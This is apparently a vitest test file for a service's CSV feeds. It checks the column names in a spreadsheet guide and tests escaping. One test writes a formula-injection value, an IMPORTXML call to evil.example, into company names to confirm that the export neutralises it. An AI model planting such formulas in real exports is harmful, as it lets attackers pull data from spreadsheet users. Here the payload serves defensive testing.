// The guide to spreadsheets: the responses to its formulas and queries, fetched as Google Sheets and Excel fetch them,
// have the columns that they name.
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createFeed } from "../../src/accounts/feeds.ts";
import { packageRoot } from "../../src/lib/package-root.ts";
import { type Service, startSeededService, unlimitedKey } from "../support/service.ts";
import { codeBlocks } from "./examples.ts";

const guide = join(packageRoot, "docs/guides/spreadsheets.md");

let service: Service;
/** a server that redirects to the service, as http addresses usually redirect to https */
let redirecting: Server;
let feed: string;
beforeAll(async () => {
  service = await startSeededService();
  const { accountId } = await service.newKey("max");
  const input = { account: accountId, list: "trades", filters: "tradeTypes=P", name: "Sheet", actor: "test" } as const;
  const { token } = await createFeed(service.store, input);
  feed = `/feeds/${token}.csv`;
  redirecting = createServer((request, response) =>
    response.writeHead(301, { location: `${service.base}${request.url}` }).end(),
  ).listen(0, "127.0.0.1");
  await once(redirecting, "listening");
});
afterAll(async () => {
  redirecting.close();
  await service.stop();
});

/** The rows of a CSV file, fetched without a key or headers of its own through the redirect. */
async function fetchTable(path: string): Promise<string[][]> {
  const address = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}${path}`;
  const response = await fetch(address, { headers: { accept: "*/*", "user-agent": "Mozilla/5.0 (compatible)" } });
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
  return parse(await response.text()) as string[][];
}

/** Column names and types, as in `{"filing_date", type date}`. */
const typed = (query: string) => [...query.matchAll(/\{"(\w+)", type (\w+)\}/g)].map(([, name, type]) => [name, type]);

it("Google Sheets gets the feed without a key, and the guide's column numbers are correct", async () => {
  const [first = "", second = ""] = await codeBlocks(guide, "text");
  expect(first).toContain("/feeds/<token>.csv");
  const [header = [], ...rows] = await fetchTable(feed);
  expect(rows.length).toBeGreaterThan(0);
  const chosen = [...second.matchAll(/Col(\d+)/g)].map(([, number]) => header[Number(number) - 1]);
  expect(chosen).toEqual(["filing_date", "ticker", "company_name", "insider_name", "value"]);
});

it("Excel gets the feed and, with the key, the list, with the columns that the queries convert", async () => {
  const [ofFeed = "", ofList = ""] = await codeBlocks(guide, "powerquery");
  const [header = []] = await fetchTable(feed);
  expect(typed(ofFeed).length).toBeGreaterThan(0);
  expect(typed(ofFeed).filter(([name]) => !header.includes(name ?? ""))).toEqual([]);
  const [, path] = /RelativePath = "([^"]+)"/.exec(ofList) ?? [];
  const [, record = ""] = /Query = \[(.*?)\]/s.exec(ofList) ?? [];
  const query = new URLSearchParams(
    [...record.matchAll(/(\w+) = "([^"]*)"/g)].map(([, name = "", value = ""]) => [name, value]),
  );
  const { status, text } = await service.get(`/${path}?${query}`, await unlimitedKey(service));
  expect([status, query.get("format")]).toEqual([200, "csv"]);
  const [columns = [], ...rows] = parse(text) as string[][];
  expect(columns.join()).toBe(query.get("fields"));
  expect(rows.length).toBeGreaterThan(0);
  for (const [name = "", type] of typed(ofList)) {
    const cells = rows.map((row) => row[columns.indexOf(name)] ?? "absent").filter((cell) => cell !== "");
    const form = type === "date" ? /^\d{4}-\d{2}-\d{2}$/ : /^-?\d+(\.\d+)?$/;
    expect([name, cells.filter((cell) => !form.test(cell))]).toEqual([name, []]);
  }
});

it("a name that looks like a formula is escaped as text", async () => {
  const before = await service.store.pool.query("SELECT cik, name FROM companies");
  await service.store.pool.query(`UPDATE companies SET name = '=IMPORTXML("https://evil.example", "//a")'`);
  const [header = [], ...rows] = await fetchTable(feed);
  const names = new Set(rows.map((row) => row[header.indexOf("company_name")]));
  for (const { cik, name } of before.rows)
    await service.store.pool.query("UPDATE companies SET name = $2 WHERE cik = $1", [cik, name]);
  expect(names).toEqual(new Set([`'=IMPORTXML("https://evil.example", "//a")`]));
});
